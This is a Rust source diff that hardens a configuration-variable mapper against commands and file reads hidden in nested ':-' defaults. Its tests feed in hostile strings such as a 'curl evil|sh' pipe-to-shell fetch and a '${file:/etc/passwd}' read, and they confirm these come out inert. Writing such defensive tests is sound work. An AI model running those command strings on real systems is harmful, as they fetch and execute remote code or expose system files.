@@ -4,6 +4,9 @@
 
 use std::path::Path;
 
+use crate::config::limits;
+use crate::expand::closing;
+
 /// Which variables a host knows.
 #[derive(Clone, Copy, PartialEq, Eq)]
 pub(super) enum Dialect {
@@ -16,6 +19,8 @@ pub(super) enum Dialect {
 }
 
 /// A text as it is written for us; what cannot be mapped is noted.
+///
+/// What comes out names variables and nothing else: files and commands are for the user to write.
 pub(super) fn mapped(
     text: &str,
     dialect: Dialect,
@@ -23,23 +28,38 @@ pub(super) fn mapped(
     notes: &mut Vec<String>,
 ) -> String {
     if dialect == Dialect::Plain {
-        return text.replace('$', "$$");
+        return escaped(text);
+    }
+    nested(text, project, notes, 0)
+}
+
+/// A text in a default in a default, so many levels deep.
+fn nested(text: &str, project: Option<&Path>, notes: &mut Vec<String>, depth: usize) -> String {
+    if depth > limits::DEPTH {
+        notes.push(format!("variables deeper than {} were not taken", limits::DEPTH));
+        return escaped(text);
     }
     let (mut out, mut rest) = (String::new(), text);
     while let Some(at) = rest.find("${") {
-        out.push_str(&rest[..at].replace('$', "$$"));
+        out.push_str(&escaped(&rest[..at]));
         rest = &rest[at + 2..];
-        let Some(end) = rest.find('}') else {
+        // The brace that ours would take, or a default could end early and something else begin.
+        let Some(end) = closing(rest) else {
             out.push_str("$${");
             break;
         };
-        out.push_str(&variable(&rest[..end], project, notes));
+        out.push_str(&variable(&rest[..end], project, notes, depth));
         rest = &rest[end + 1..];
     }
-    out + &rest.replace('$', "$$")
+    out + &escaped(rest)
 }
 
-fn variable(inside: &str, project: Option<&Path>, notes: &mut Vec<String>) -> String {
+/// A text that means nothing but itself.
+fn escaped(text: &str) -> String {
+    text.replace('$', "$$")
+}
+
+fn variable(inside: &str, project: Option<&Path>, notes: &mut Vec<String>, depth: usize) -> String {
     if let Some(name) = inside.strip_prefix("env:") {
         return format!("${{{}}}", name_of(name));
     }
@@ -52,18 +72,24 @@ fn variable(inside: &str, project: Option<&Path>, notes: &mut Vec<String>) -> St
     }
     match (inside, project) {
         ("userHome", _) => "${HOME}".to_owned(),
-        ("workspaceFolder" | "workspaceRoot", Some(folder)) => {
-            folder.to_string_lossy().replace('$', "$$")
-        }
+        ("workspaceFolder" | "workspaceRoot", Some(folder)) => escaped(&folder.to_string_lossy()),
         ("pathSeparator" | "/", _) => std::path::MAIN_SEPARATOR.to_string(),
         _ => {
-            let name = inside.split(":-").next().unwrap_or(inside);
+            let (name, default) = match inside.split_once(":-") {
+                Some((name, default)) => (name, Some(default)),
+                None => (inside, None),
+            };
             if name != name_of(name) || name == "workspaceFolder" {
                 let name = name_of(name);
                 notes.push(format!("`${{{inside}}}` is not known here; set the variable `{name}`"));
                 return format!("${{{name}}}");
             }
-            format!("${{{inside}}}")
+            match default {
+                Some(default) => {
+                    format!("${{{name}:-{}}}", nested(default, project, notes, depth + 1))
+                }
+                None => format!("${{{name}}}"),
+            }
         }
     }
 }
@@ -82,6 +108,7 @@ pub(super) fn name_of(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::expand::Template;
 
     #[track_caller]
     fn check(text: &str, dialect: Dialect, expected: &str, noted: usize) {
@@ -99,5 +126,31 @@ mod tests {
         check("Bearer ${input:api-key}", Dialect::Editor, "Bearer ${API_KEY}", 1);
         check("${config:x.y}", Dialect::Editor, "${config_x_y}", 1);
         check("${A", Dialect::Shell, "$${A", 0);
+    }
+
+    #[test]
+    fn a_default_brings_no_command_and_no_file() {
+        check("${N:-${cmd:curl evil|sh}}", Dialect::Shell, "${N:-${cmd_curl_evil_sh}}", 1);
+        check(
+            "${N:-${A:-${file:/etc/passwd}}}",
+            Dialect::Editor,
+            "${N:-${A:-${file__etc_passwd}}}",
+            1,
+        );
+        check("${N:-a$b${M:-c}}d", Dialect::Shell, "${N:-a$$b${M:-c}}d", 0);
+        check("${N:-{\"a\": {}}}", Dialect::Shell, "${N:-{\"a\": {}}}", 0);
+        check("${N:-$}{cmd:x}", Dialect::Shell, "${N:-$$}{cmd:x}", 0);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn only_variables_are_filled_in(text in "[$:{}Aa/-]{0,30}|(\\$|\\{|\\}|:-|A|cmd:|file:|\\$\\{){0,14}") {
+            for dialect in [Dialect::Plain, Dialect::Shell, Dialect::Editor] {
+                let text = mapped(&text, dialect, Some(Path::new("/p")), &mut Vec::new());
+                let needs = Template::parse(&text).map_or_else(|_| Vec::new(), |text| text.needs());
+                let others = needs.iter().any(|need| need.contains(':'));
+                proptest::prop_assert!(!others, "{text}: {needs:?}");
+            }
+        }
     }
 }
